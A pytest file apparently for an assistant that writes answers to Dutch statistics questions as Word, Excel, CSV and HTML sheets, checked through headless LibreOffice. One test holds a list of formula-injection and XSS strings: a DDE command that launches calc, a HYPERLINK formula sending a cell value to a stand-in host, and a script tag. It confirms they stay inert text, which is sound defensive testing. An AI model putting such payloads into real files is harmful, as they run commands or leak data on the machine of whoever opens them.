"""The files opened by LibreOffice: what a reader of them sees, and that nothing in them runs."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from assistant.answering import Assistant
from assistant.answering.reopening import reopen
from assistant.answering.sheets import sheet
from assistant.explanation.sheet import csv_table, page, word_document, workbook
from assistant.settings import Settings

QUESTION = "Hoe ontwikkelde het aantal bijstandsuitkeringen zich sinds 2019?"


@pytest.fixture
def office() -> str:
    """LibreOffice, where it is there; with CI=true it must be."""
    found = shutil.which("soffice")
    if found is None and os.environ.get("CI"):
        pytest.fail("LibreOffice is missing (soffice): .ci/run installs it")
    if found is None:
        pytest.skip("no LibreOffice on this machine (soffice)")
    return found


@pytest.mark.heavy
def test_the_word_document_opens_with_everything_in_it(demo: Assistant, office: str, tmp_path: Path) -> None:
    today = dt.date(2026, 11, 25)
    opened = reopen(demo, str(demo.ask(QUESTION, as_of=today).kept))
    assert opened is not None
    (tmp_path / "sheet.docx").write_bytes(word_document([sheet(demo, opened, as_of=today)]))
    for form in ("txt:Text", "pdf"):
        converted(office, tmp_path, "sheet.docx", form)
    text = (tmp_path / "sheet.txt").read_text("utf-8-sig")
    for part in (QUESTION, "4.671", "Wat deze cijfers niet zeggen", "Vragen voor het gesprek", "Bronnen", "SELECT"):
        assert part in text, part
    assert (tmp_path / "sheet.pdf").stat().st_size > 20_000


#: Names of districts as somebody could put them into a table, to run on the machine of who opens it.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    " =1+1",
    '=HYPERLINK("http://elsewhere.example/?"&A1;"klik")',
    "<script>alert(1)</script>",
]
CATALOG = """\
name: gevaar
language: nl
"""
DATASET = """\
name: bomen
title: "=1+1"
source: bomen.csv
primary_key: [wijk]
fields:
  - {name: wijk, role: key, datatype: String, label: "@wijk"}
  - {name: aantal, role: measure, datatype: Integer, aggregation: sum, label: "+bomen", synonyms: [bomen],
     unit: "=stuks"}
"""


@pytest.mark.heavy
def test_hostile_names_and_labels_stay_texts_in_every_file(office: str, tmp_path: Path) -> None:
    root = tmp_path / "catalog"
    (root / "datasets").mkdir(parents=True)
    (root / "data").mkdir()
    (root / "catalog.yaml").write_text(CATALOG)
    (root / "datasets" / "bomen.yaml").write_text(DATASET)
    with (root / "data" / "bomen.csv").open("w", newline="") as file:
        csv.writer(file).writerows([("wijk", "aantal"), *((name, 7 + at) for at, name in enumerate(HOSTILE))])
    with Assistant.open(Settings(catalog=root, home=tmp_path / "home")) as assistant:
        opened = reopen(assistant, str(assistant.ask("Hoeveel bomen per @wijk?").kept))
        assert opened is not None
        one = sheet(assistant, opened)
    assert len(one.rows) == len(HOSTILE)
    assert "<script>" not in page([one])
    with zipfile.ZipFile(io.BytesIO(workbook(one))) as book:
        pages = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
    assert len(pages) == 2
    assert not [text for text in pages if "<f>" in text or "<f " in text]
    cells = [cell for row in csv.reader(io.StringIO(csv_table(one), newline="")) for cell in row]
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]
    (tmp_path / "sheet.docx").write_bytes(word_document([one]))
    converted(office, tmp_path, "sheet.docx", "txt:Text")
    text = (tmp_path / "sheet.txt").read_text("utf-8-sig")
    for name in HOSTILE:
        assert name.strip() in text


def converted(office: str, folder: Path, name: str, form: str) -> None:
    """Open a file of ``folder`` in LibreOffice and keep it in another form beside it."""
    profile = f"-env:UserInstallation=file://{folder}/profile"
    command = [office, profile, "--headless", "--convert-to", form, name]
    subprocess.run(command, cwd=folder, check=True, capture_output=True, timeout=180)
